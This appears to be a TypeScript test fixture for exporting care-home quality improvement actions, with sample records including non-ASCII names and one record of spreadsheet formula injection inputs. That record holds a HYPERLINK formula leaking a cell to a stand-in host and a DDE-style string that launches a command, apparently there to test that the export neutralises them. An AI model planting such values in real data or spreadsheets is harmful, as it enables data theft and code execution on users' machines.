// Actions as the export command will hand them over: one with two targets and every field, one
// nearly empty, one whose text would be a formula in a spreadsheet, and names that are not ASCII.
import type { ActionExportInput } from '../../src/exchange/columns.js';

export const fullAction: ActionExportInput = {
  id: 'NU-004',
  title: 'Nutrition screening for Zoë\'s unit, led by Siân Ó\'Brien',
  location: 'rose-house',
  raised: '2026-09-01',
  source: 'cqc-inspection',
  source_ref: 'Report para 4.2, "Safe"; see minutes',
  theme: 'nutrition-and-hydration',
  quality_statements: ['safe.involving-people-to-manage-risks', 'effective.assessing-needs'],
  regulations: ['12', '14'],
  risk_areas: ['safety', 'safeguarding'],
  owner: 'sian-obrien',
  status: 'in_progress',
  rag: 'amber',
  targets: [
    { id: 'screening', measure: 'People screened with MUST on admission and monthly', unit: 'percent', goal: 95, direction: 'at_least', due: '2026-11-30' },
    { id: 'weight-loss', measure: 'People with unplanned weight loss over 5%', unit: 'count', goal: 0, direction: 'at_most' },
    { id: 'fluids', measure: 'Fluid charts totalled daily', unit: 'percent', goal: 90, direction: 'at_least', due: '2027-01-31' },
  ],
  required_evidence: ['audit', 'observation', 'care_record'],
  reviewer: 'registered-manager',
  approver: 'nominated-individual',
  ready: false,
};

export const bareAction: ActionExportInput = {
  id: 'MH-002',
  title: 'Hoist slings checked',
  raised: '2026-10-05',
  risk_areas: [],
  owner: 'zoe-adeyemi',
  status: 'open',
  targets: [],
  ready: false,
};

/** Every field a user types that a spreadsheet would otherwise run or strip. */
export const formulaAction: ActionExportInput = {
  id: 'IN-003',
  title: '=HYPERLINK("http://example.test/?leak="&A1,"Click")',
  location: 'oak-lodge',
  raised: '2026-08-31',
  source: 'incident',
  source_ref: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  theme: '-falls',
  quality_statements: ['safe.learning-culture'],
  risk_areas: ['safety'],
  owner: 'dan-jones',
  status: 'closed',
  rag: 'green',
  targets: [{ id: 'target', measure: '+ falls per 1,000 bed days\ttracked', unit: 'other', goal: -2.5, direction: 'at_most', due: '2026-10-01' }],
  required_evidence: ['trend'],
  reviewer: '\tregistered-manager',
  approver: "'=already quoted",
  ready: true,
  decided_by: 'grace-okafor',
  decided_on: '2026-10-20',
  review_due: '2027-01-20',
};

export const allActions = [fullAction, bareAction, formulaAction];
